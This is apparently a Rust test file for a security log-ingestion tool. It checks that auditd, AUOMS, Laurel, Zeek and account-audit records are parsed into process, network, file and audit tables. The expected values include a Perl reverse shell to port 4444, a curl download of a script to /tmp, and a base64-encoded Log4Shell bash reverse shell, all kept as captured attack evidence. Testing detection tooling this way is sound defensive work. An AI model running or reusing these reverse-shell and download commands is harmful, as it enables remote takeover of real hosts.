    // 25 lines: 8 events (one interleaved with another) and a line that is no record. Every
    // event is stored: each record as an `auditd` row, and the execs, the connection and the
    // file created as rows of their tables too.
    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (8, 7, 0, 1));
    assert_eq!(f.rows.get(&spoor::core::schema::Table::Auditd), Some(&24));
    assert_eq!(f.reject_reasons.values().next().unwrap().first_line, 25);
    let rows = query(
        &t.store,
        r#"SELECT "host.name", "user.name", "process.pid", "process.parent.pid", "process.name", "process.command_line",
                  "process.working_directory", "log.file.line"
           FROM process ORDER BY "@timestamp""#,
    );
    let script = r#"use Socket;$i="192.0.2.10";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};"#;
    let url = format!("http://198.51.100.73:8000/{}", "x".repeat(40));
    assert_eq!(
        rows,
        [
            ["web-01", "alice", "2301", "2200", "perl", &format!("perl -e {script}"), "/home/alice", "2"],
            ["web-01", "NULL", "2301", "2200", "dash", "/bin/sh -i", "/home/alice", "13"],
            ["web-01", "NULL", "2310", "2301", "curl", &format!("curl -so /tmp/ld.py {url}"), "NULL", "17"],
        ]
        .map(|r| r.map(str::to_string).to_vec())
    );
    let row = one_row(
        &t.store,
        r#"SELECT "destination.ip", "destination.port", "process.name", "log.file.line" FROM network"#,
    );
    assert_eq!(row, ["192.0.2.10", "4444", "perl", "9"]);
    let row = one_row(&t.store, r#"SELECT "event.action", "file.path", "process.name" FROM file"#);
    assert_eq!(row, ["creation", "/tmp/ld.py", "curl"]);
    // The records as auditd wrote them: the curl's split argument joined under its name; a
    // login's fields, those of its user-space message and the enriched ones (`AUID`) alike.
    let row = one_row(
        &t.store,
        r#"SELECT "auditd.fields"['a3'], "log.file.line" FROM auditd
           WHERE "event.code" = 'EXECVE' AND "auditd.fields"['a0'] = 'curl'"#,
    );
    assert_eq!(row, [url.as_str(), "17"]);
    let row = one_row(
        &t.store,
        r#"SELECT "event.code", "auditd.fields"['AUID'], "auditd.fields"['addr'] FROM auditd WHERE "event.code" = 'USER_LOGIN'"#,
    );
    assert_eq!(row, ["USER_LOGIN", "alice", "198.51.100.7"]);
}

#[test]
fn auoms_records_in_sentinel_syslog_rows_are_process_starts_and_audit_rows() {
    // OTRF's Log4Shell capture: 50 AUOMS_EXECVE records, 27 of them `success=yes` (counted
    // with a script over the file); of the 23 failed execs (a program looked for along the PATH),
    // 5 are Tomcat's Java looking for `bash`, 12 dpkg's and 6 the Azure agent's.
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/linux/sentinel_syslog_auoms_log4shell_jndi.json");
    let t = ingest_files(&[path]);
    let f = &t.summary.files[0];
    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (50, 50, 0, 0));
    assert_eq!(f.rows.get(&spoor::core::schema::Table::Auditd), Some(&50));
    assert_eq!(f.rows.get(&spoor::core::schema::Table::Process), Some(&27));
    let row = one_row(
        &t.store,
        r#"SELECT "host.name", "user.name", "process.pid", "process.parent.pid", "process.name", "process.command_line",
                  "process.working_directory" FROM process ORDER BY "@timestamp", "log.file.line" LIMIT 1"#,
    );
    let shell = r#"bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}""#;
    assert_eq!(row, ["ubuntu5", "tomcat", "17790", "1340", "bash", shell, "/"]);
    // A failed exec is an audit row only, with what auoms said of it.
    let row = one_row(
        &t.store,
        r#"SELECT count(*), min("auditd.fields"['exit']), count(*) FILTER (WHERE "auditd.fields"['comm'] = 'http-nio-8080-e')
           FROM auditd WHERE "auditd.fields"['success'] = 'no'"#,
    );
    assert_eq!(row, ["23", "-2", "5"]);
}

#[test]
fn laurel_events_give_the_rows_raw_audit_records_do_and_name_the_parent() {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/linux/laurel.json");
    let t = ingest_files(&[path]);
    let f = &t.summary.files[0];
    assert_eq!(f.format, Some(Format::Laurel));
    // Five lines: four events and one cut short. Records: 1 + 6 + 3 + 5.
    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (5, 4, 0, 1));
    assert_eq!(f.rows.get(&spoor::core::schema::Table::Auditd), Some(&15));
    let row = one_row(
        &t.store,
        r#"SELECT "@timestamp", "host.name", "user.name", "process.pid", "process.parent.pid", "process.parent.name",
                  "process.parent.executable", "process.name", substr("process.command_line", 1, 22), "process.working_directory"
           FROM process"#,
    );
    assert_eq!(
        row,
        [
            "2026-03-31T00:01:00.532Z",
            "db-02",
            "deploy",
            "4211",
            "4190",
            "bash",
            "/usr/bin/bash",
            "perl",
            "perl -e use Socket;$i=",
            "/home/deploy"
        ]
    );
    let row = one_row(
        &t.store,
        r#"SELECT "destination.ip", "destination.port", "network.direction", "process.name" FROM network"#,
    );
    assert_eq!(row, ["192.0.2.44", "4444", "outbound", "perl"]);
    let row = one_row(&t.store, r#"SELECT "event.action", "file.path", "process.name" FROM file"#);
    assert_eq!(row, ["creation", "/tmp/ld.py", "curl"]);
    let row = one_row(
        &t.store,
        r#"SELECT "auditd.fields"['AUID'], "auditd.fields"['msg'] LIKE 'op=login acct="deploy"%' FROM auditd WHERE "event.code" = 'USER_LOGIN'"#,
    );
    assert_eq!(row, ["deploy", "true"]);
}

#[test]
fn network_rows_are_named_by_the_hosts_that_kerberos_and_dhcp_say_they_are() {
    let zeek = |rel: &str| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/zeek").join(rel);
    // The DNS log is named first: ingest reads the logs that name hosts before the others.
    let t = ingest_files(&[
        zeek("apt29_day2_UTICA-A_dns.json"),
        zeek("apt29_day2_UTICA-A_kerberos.json"),
        zeek("documented_dhcp.json"),
    ]);
    let rows = query(&t.store, r#"SELECT "source.ip", "host.name", count(*) FROM dns GROUP BY 1, 2"#);
    assert_eq!(rows, [["10.0.1.5", "utica.dmevals.local", "58"].map(str::to_string).to_vec()]);
    // The users' tickets from the same address name no host; the machine account's does.
    // A DHCP lease names the host it gave the address to, with the lease's domain.
    let row = one_row(&t.store, r#"SELECT "host.name" FROM network WHERE "source.ip" = '192.168.56.23'"#);
    assert_eq!(row, ["ws-ana.corp.example"]);
}

#[test]
fn zeek_http_tls_certificates_and_every_other_log_keep_all_their_fields() {
    let zeek = |rel: &str| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/zeek").join(rel);
    let t = ingest_files(&[
        zeek("wrccdc2018_ssl_head30.log"),
        zeek("wrccdc2018_x509_head30.log"),
        zeek("wrccdc2018_notice_head30.log"),
        zeek("wrccdc2018_weird_head30.log"),
        corpus("dns/zeek/apt29_day1_SCRANTON_http.json"),
    ]);
    let counts: Vec<_> = t.summary.files.iter().map(|f| (f.read, f.stored, f.skipped)).collect();
    // Only the TSV header lines are skipped.
    assert_eq!(counts, [(39, 30, 9), (11, 2, 9), (39, 30, 9), (39, 30, 9), (62, 62, 0)]);
    // A handshake joins the certificate it presented, by the leaf certificate's hash.
    let rows = query(
        &t.store,
        r#"SELECT h."destination.ip", h."tls.version", c."tls.server.x509.subject.distinguished_name", c."tls.server.x509.not_after"
           FROM tls h JOIN tls c ON h."tls.server.hash.sha256" = c."tls.server.hash.sha256" AND c."event.action" = 'certificate'
           WHERE h."event.action" = 'handshake' AND h."destination.ip" = '10.47.27.80' LIMIT 1"#,
    );
    assert_eq!(
        rows,
        common::rows(&[[
            "10.47.27.80",
            "TLSv10",
            "CN=www.example.com,OU=Certificate generated at installation time,O=Bitnami",
            "2028-03-12T02:36:22Z"
        ]])
    );
    // Logs no table models keep every field, by Zeek's names.
    let row = one_row(
        &t.store,
        r#"SELECT "source.ip", "zeek.fields"['note'], "zeek.fields"['msg'] FROM zeek
           WHERE "event.code" = 'notice' ORDER BY "@timestamp", "log.file.line" LIMIT 1"#,
    );
    assert_eq!(
        row,
        [
            "10.164.94.120",
            "SSL::Invalid_Server_Cert",
            "SSL certificate validation failed with (self signed certificate)"
        ]
    );
    // HTTP requests, with the URL put together and the fields no column holds kept.
    let row = one_row(
        &t.store,
        r#"SELECT "http.request.method", "url.full", "user_agent.original", "http.response.status_code", "zeek.fields"['status_msg']
           FROM http ORDER BY "@timestamp", "log.file.line" LIMIT 1"#,
    );
    assert_eq!(row, ["OPTIONS", "http://192.168.0.4/", "DavClnt", "403", "Forbidden"]);
}

#[test]
fn an_asset_map_names_the_hosts_behind_a_network_sensors_addresses() {
    let dir = tempfile::tempdir().unwrap();
    let map = dir.path().join("assets.csv");
    std::fs::write(&map, "IP,Hostname,owner\n10.0.1.4,SCRANTON.dmevals.local,it\n10.0.1.6,nashua.dmevals.local,it\n")
        .unwrap();
    let assets = spoor::core::assets::Assets::load(&map).unwrap();
    assert_eq!(assets.len(), 2);
    let t = ingest_with(
        &[
            corpus("dns/zeek/apt29_day1_SCRANTON_conn.json"),
            corpus("dns/zeek/lsass_campaign01_metasploit_conn.log"),
            windows("mordor/empire_launcher_vbs.json"),
        ],
        IngestOptions { assets: Some(assets), ..Default::default() },
    );
    let rows = query(
        &t.store,
        r#"SELECT "source.ip", "host.name", count(*) FROM network WHERE "spoor.format" = 'zeek-json' GROUP BY 1, 2"#,
    );
    assert_eq!(rows, common::rows(&[["10.0.1.4", "scranton.dmevals.local", "134"]]));
    // Rows that name their host (EDR) keep it; addresses the map does not know stay unnamed.
    let named = query(&t.store, r#"SELECT DISTINCT "host.name" FROM network WHERE "spoor.format" = 'windows'"#);
    assert_eq!(named, common::rows(&[["workstation5.theshire.local"]]));
    let unknown =
        one_row(&t.store, r#"SELECT count(*), count("host.name") FROM network WHERE "spoor.format" = 'zeek'"#);
    assert_eq!(unknown, ["112", "0"]);

    std::fs::write(&map, "address\n10.0.1.4\n").unwrap();
    let err = spoor::core::assets::Assets::load(&map).unwrap_err().to_string();
    assert!(err.contains("needs a header with an address column"), "{err}");
}

/// Account audit logs from five sources, each in its own shape and spelling: the source's action
/// stays in `event.action`, its meaning is in `audit.activity` (with ECS category and type),
/// and what spoor does not recognize is kept and counted, never turned into `other`.
#[test]
fn audit_events_from_any_source_keep_their_name_and_gain_their_meaning() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let t = common::ingest_files(&[
        root.join("tests/data/audit"),
        root.join("tests/data/documented/github_audit_stream.ndjson"),
    ]);
    let formats: Vec<_> = t
        .summary
        .files
        .iter()
        .map(|f| (f.path.file_name().unwrap().to_str().unwrap().to_string(), f.format.map(|x| x.name()), f.rejected))
        .collect();
    for (file, format, rejected) in formats.iter().filter(|(file, ..)| file != "README.md") {
        assert_eq!(*format, Some("audit-log"), "{file}");
        // The GitHub stream's third entry has no time, on purpose.
        assert_eq!(*rejected, u64::from(file.starts_with("github")), "{file}");
    }
    let rows = common::query(
        &t.store,
        r#"SELECT "event.provider", "event.action", "audit.activity", "event.category", "event.type", "user.name", "user.target.name", "user.changes.email", "source.ip"
           FROM audit ORDER BY "@timestamp", "event.action""#,
    );
    let row = |action: &str| {
        rows.iter().find(|r| r[1] == action).unwrap_or_else(|| panic!("no `{action}` in {rows:#?}")).clone()
    };
    assert_eq!(
        row("user.account.update_primary_email"),
        [
            "okta",
            "user.account.update_primary_email",
            "email_change",
            "iam",
            "change",
            "jason@example.invalid",
            "jason@example.invalid",
            "NULL",
            "198.51.100.23"
        ]
    );
    assert_eq!(row("user.mfa.factor.deactivate")[2], "mfa_disable");
    assert_eq!(row("user.session.start")[2..5], ["login", "authentication", "start"]);
    assert_eq!(row("recovery_email_edit")[..3], ["google_workspace", "recovery_email_edit", "email_change"]);
    assert_eq!(row("2sv_disable")[2], "mfa_disable");
    let password = row("CHANGE_PASSWORD");
    assert_eq!(
        [2, 5, 6].map(|i| password[i].as_str()),
        ["password_change", "admin@example.invalid", "dev@example.invalid"]
    );
    assert_eq!(row("change_email")[..4], ["gitlab", "change_email", "email_change", "iam"]);
    assert_eq!(row("change_email")[7], "ifstap@proton.me");
    assert_eq!(row("personal_access_token_created")[2], "token_create");
    assert_eq!(row("npm.email_change")[..3], ["npm", "npm.email_change", "email_change"]);
    assert_eq!(row("npm.email_change")[7], "ifstap@proton.me");
    assert_eq!(row("npm.token_create")[2], "token_create");
    assert_eq!(row("npm.publish")[2], "package_publish");
    assert_eq!(row("billing.change_email")[..3], ["github", "billing.change_email", "email_change"]);
    // Kept as written, and counted in the summary.
    for unknown in [
        "app.generic.unauth_app_access_attempt",
        "CHANGE_CALENDAR_SETTING",
        "project_feature_updated",
        "npm.dist_tag_add",
    ] {
        assert_eq!(row(unknown)[2], "NULL", "{unknown}");
    }
    let mut unrecognized: Vec<(String, u64)> = t
        .summary
        .files
        .iter()
        .flat_map(|f| f.unrecognized_actions.iter().map(|(action, t)| (action.clone(), t.count)))
        .collect();
    unrecognized.sort();
    assert_eq!(
        unrecognized,
        [
            ("CHANGE_CALENDAR_SETTING".to_string(), 1),
            ("app.generic.unauth_app_access_attempt".to_string(), 1),
            ("npm.dist_tag_add".to_string(), 1),
            ("project_feature_updated".to_string(), 1),
        ]
    );
}

/// A large file is parsed on several threads, in blocks; what it stores and what its summary
/// says must be what one thread gives: the same rows, line numbers, rejects and reasons, Zeek
/// headers in the middle of a file, and hosts named by a DHCP lease read in the same file.
#[test]
fn a_file_parsed_on_several_threads_gives_what_one_thread_gives() {
    let dir = tempfile::tempdir().unwrap();
    let read = |path: std::path::PathBuf| std::fs::read(path).unwrap();
    let zeek = dir.path().join("sensor.log");
    let mut tsv = read(corpus("dns/zeek/lsass_campaign01_metasploit_dns.log"));
    tsv.extend_from_slice(b"1521911720.865716\tC1\tnot enough fields\n\xff\xfe not UTF-8\n");
    tsv.extend_from_slice(format!("{}\n\n", "x".repeat(5000)).as_bytes());
    tsv.extend(read(corpus("dns/zeek/lsass_campaign01_metasploit_conn.log")));
    tsv.extend(read(corpus("dns/zeek/lsass_campaign01_metasploit_http.log")));
    std::fs::write(&zeek, tsv).unwrap();
    let ecs = dir.path().join("endpoint.ndjson");
    let mut ndjson = read(common::documented("ecs_endpoint.ndjson")).repeat(8);
    ndjson.extend_from_slice(b"{\"@timestamp\": \"2026-03-31T08:00:00Z\", \"event\": \n");
    ndjson.extend(read(common::documented("ecs_endpoint.ndjson")));
    std::fs::write(&ecs, ndjson).unwrap();
    let json = dir.path().join("mixed.json");
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/zeek");
    // The lease (its first two lines) and the connection it names (its third) blocks apart.
    let dhcp = read(root.join("documented_dhcp.json"));
    let third = dhcp.iter().enumerate().filter(|(_, b)| **b == b'\n').nth(1).unwrap().0 + 1;
    let mut lines = read(corpus("dns/zeek/apt29_day1_SCRANTON_conn.json"));
    lines.extend(&dhcp[..third]);
    lines.extend(read(root.join("apt29_day2_UTICA-A_dns.json")));
    lines.extend(&dhcp[third..]);
    std::fs::write(&json, lines).unwrap();

    let inputs = [zeek, ecs, json];
    let options = |threads| IngestOptions { threads, block_bytes: 1024, max_line_bytes: 4096, ..Default::default() };
    let one = ingest_with(&inputs, options(1));
    let three = ingest_with(&inputs, options(3));
    for (alone, parallel) in one.summary.files.iter().zip(&three.summary.files) {
        assert_eq!((alone.threads, parallel.threads), (1, 3), "{}", parallel.path.display());
        let parallel = spoor::core::ingest::FileSummary { threads: 1, ..parallel.clone() };
        assert_eq!(format!("{alone:?}"), format!("{parallel:?}"));
    }
    let sensor = &one.summary.files[0];
    assert_eq!((sensor.rejected, sensor.skipped), (3, 27), "{sensor:?}");
    let lease = r#"SELECT "host.name" FROM network WHERE "source.ip" = '192.168.56.23'"#;
    assert_eq!(query(&one.store, lease), common::rows(&[["ws-ana.corp.example"]]));

    let tables = one.store.tables().unwrap();
    assert_eq!(tables, three.store.tables().unwrap());
    assert!(tables.len() >= 5, "{tables:?}");
    for table in tables {
        // When the rows were ingested (and a reject's time, which is that) differs by run.
        let varying = match table {
            spoor::core::Table::Rejects => r#""event.ingested", "@timestamp""#,
            _ => r#""event.ingested""#,
        };
        let sql = format!(r#"SELECT * EXCLUDE ({varying}) FROM "{}""#, table.name());
        let (mut alone, mut parallel) = (query(&one.store, &sql), query(&three.store, &sql));
        alone.sort();
        parallel.sort();
        let first_difference = alone.iter().zip(&parallel).find(|(a, p)| a != p);
        assert!(
            alone == parallel,
            "{}: {} rows on one thread, {} on several; first difference: {first_difference:?}",
            table.name(),
            alone.len(),
            parallel.len()
        );
    }
}
